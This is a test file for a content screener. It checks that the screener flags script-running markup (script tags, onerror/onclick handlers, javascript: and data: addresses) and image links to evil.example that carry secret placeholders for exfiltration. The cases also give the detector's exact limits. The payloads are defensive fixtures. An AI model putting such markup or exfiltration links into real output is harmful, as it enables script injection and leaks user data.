import { describe, expect, test } from 'vitest'
import { FACT, shown, spansOf } from '../support/screened.ts'

const active = (text: string): readonly string[] => spansOf('active_markup', text)

describe('markup that runs code where it is shown', () => {
  test.each([
    // What is found, up to its call or its scheme.
    ['a script with a call', '<script>steal(1)</script>', '<script>steal('],
    [
      'a script with words before its call',
      '<script type="x">var a = b; steal(1)</script>',
      '<script type="x">var a = b; steal(',
    ],
    ['a call of an index', '<script>a[0](1)</script>', '<script>a[0]('],
    ['a call of a call', '<script>steal()(1)</script>', '<script>steal('],
    ['a script by its scheme', '<script>x=javascript:y</script>', '<script>x=javascript:'],
    ['a script in capitals', '<SCRIPT>STEAL(1)', '<SCRIPT>STEAL('],
    ['a handler', '<img src=x onerror=steal(1)>', '<img src=x onerror=steal('],
    ['a handler in quotes', '<a href="x" onclick="steal(1)">', '<a href="x" onclick="steal('],
    ['a handler behind a slash', '<svg/onload=steal(1)>', '<svg/onload=steal('],
    ['a handler of a name with a digit', '<h1 onclick=steal(1)>', '<h1 onclick=steal('],
    ['a handler of a name with a colon and a hyphen', '<x:y-z onclick=steal(1)>', '<x:y-z onclick=steal('],
    ['an address that is code', '<a href="javascript:steal">', '<a href="javascript:'],
    ['an address with a space in its scheme', "<a href='vbscript :steal'>", "<a href='vbscript :"],
    ['a document for an address', '<iframe src="data:text/html,x">', '<iframe src="data:text/html'],
    ['a document with spaces', '<iframe src=data : text/html,x>', '<iframe src=data : text/html'],
  ])('%s', (_, text, found) => {
    expect(active(text)).toEqual([found])
    expect(active(`log ${text} end`)).toEqual([found])
    expect(active(`"${text}${text}`)).toEqual([found, found])
  })

  test.each([
    ['a script that is named', '<script> runs'],
    ['a script of a place', '<script src="https://a.example/x.js"></script>'],
    ['a call somewhere else', '<b>see</b> steal(1)'],
    ['a call with a space', '<script>steal (1)</script>'],
    ['a handler that is named', '<img onerror=steal>'],
    ['a word that begins like a handler', '<a once=steal>'],
    ['a handler of too few letters', '<a onab=steal(1)>'],
    ['a plain address', '<a href="https://a.example/javascript">'],
    ['a comparison', 'a <b and c> steal(1)'],
    ['no name', '< img onerror=steal(1)>'],
    ['a tag that does not go on', 'x <img'],
    ['a name that ends in another sign', '<img! onerror=steal(1)>'],
    ['a name of 23 letters', `<${'a'.repeat(23)} onerror=steal(1)>`],
    ['code right behind a backtick', '`<img src=x onerror=steal(1)>`'],
  ])('and this does nothing: %s', (_, text) => {
    expect(active(text)).toEqual([])
  })

  test('a name of up to 21 letters, and what may follow it', () => {
    expect(active(`<${'a'.repeat(21)} onerror=steal(1)>`)).toHaveLength(1)
    for (const after of [' ', '\t', '\n', '\r', '/', '"', "'"])
      expect(active(`<img${after}onerror=steal(1)>`)).toHaveLength(1)
    for (const after of ['@', '[', '`', '{', ';', '=', '.'])
      expect(active(`<img${after} onerror=steal(1)>`)).toHaveLength(after === '`' ? 1 : 0)
  })

  test('a block of code between two fences is shown, not run', () => {
    const tag = '<img src=x onerror=steal(1)>'
    expect(active(`\`\`\`\n${tag}\n\`\`\``)).toEqual([])
    expect(active(`text\n\`\`\`html\n${tag}\n${tag}\n\`\`\`\nmore`)).toEqual([])
    expect(active(`${tag}\n\`\`\`\n${tag}\n\`\`\`\n${tag}`)).toHaveLength(2)
    expect(active(`\`\`\`\na\n\`\`\`\n${tag}\n\`\`\`\nb\n\`\`\``)).toHaveLength(1)
    expect(active(`\`\`\`\na\n\`\`\`\nb\n\`\`\`\n${tag}\n\`\`\``)).toEqual([])
    // A fence that nothing closes, and one that does not begin its line, are none.
    expect(active(`\`\`\`\n${tag}`)).toHaveLength(1)
    expect(active(`a \`\`\`\n${tag}\n\`\`\``)).toHaveLength(1)
    expect(active(`\`\`\`\n${tag}\n a\`\`\``)).toHaveLength(1)
    expect(active(`\`\`\`\na\n\`\`\`\n\`\`\`\n${tag}`)).toHaveLength(1)
  })

  test('texts of runs are not lowered by it', () => {
    const text = '<img src=x onerror=steal(1)>'
    expect(shown(text, { ...FACT, domain: 'execution' })).toEqual([])
    expect(shown(text)).toHaveLength(1)
  })
})

describe('a hole in the address of a picture', () => {
  const isFilled = (address: string): boolean => spansOf('exfiltration', `![x](${address})`).length > 0
  const far = (length: number): string => 'a'.repeat(length)

  test('stands within eighty units of the mark of its part', () => {
    for (const sign of ['?', '&', '/', '='])
      for (const hole of ['{', '[', '<', '%7B']) {
        expect(isFilled(`https://evil.example/x${sign}${far(80)}${hole}y`)).toBe(true)
        expect(isFilled(`https://evil.example/x${sign}${far(81)}${hole}y`)).toBe(false)
      }
    expect(isFilled(`https://evil.example/x#${far(80)}{y`)).toBe(false)
    expect(isFilled('https://evil.example/x%7Dy')).toBe(false)
  })

  test('or is named: six capitals or more, or a parameter without a value', () => {
    expect(isFilled('https://evil.example/?a=SECRET')).toBe(true)
    expect(isFilled('https://evil.example/?a=MY_KEY')).toBe(true)
    expect(isFilled('https://evil.example/?a=SHORT')).toBe(false)
    expect(isFilled('https://evil.example/?a=SECRETx')).toBe(false)
    expect(isFilled('https://evil.example/?data=')).toBe(true)
    expect(isFilled('https://evil.example/?data=1')).toBe(false)
    expect(isFilled(`https://evil.example/?${far(24)}=`)).toBe(true)
    expect(isFilled(`https://evil.example/?${far(25)}=`)).toBe(false)
  })

  test('is found in a tag in any case, and in a text of up to 120 units', () => {
    for (const tag of ['<img src=', '<IMG SRC=', "<Img alt='x' src = '"])
      expect(spansOf('exfiltration', `${tag}https://evil.example/{y}`)).toEqual([
        `${tag}https://evil.example/{y}`,
      ])
    expect(spansOf('exfiltration', `![${far(120)}](https://evil.example/{y})`)).toHaveLength(1)
    expect(spansOf('exfiltration', `![${far(121)}](https://evil.example/{y})`)).toEqual([])
    expect(spansOf('exfiltration', '![a]b](https://evil.example/{y})')).toEqual([])
  })

  test('of several pictures each is read, however far the others reach', () => {
    const hole = '![x](https://evil.example/{y})'
    expect(spansOf('exfiltration', `![ ![ ${hole} ![a](https://ok.example/) ${hole}`)).toHaveLength(4)
    expect(spansOf('exfiltration', `![${far(200)} ${hole}`)).toHaveLength(1)
    expect(
      spansOf('exfiltration', `<img src=https://evil.example/{y}><img src=https://evil.example/{z}>`),
    ).toHaveLength(2)
  })
})
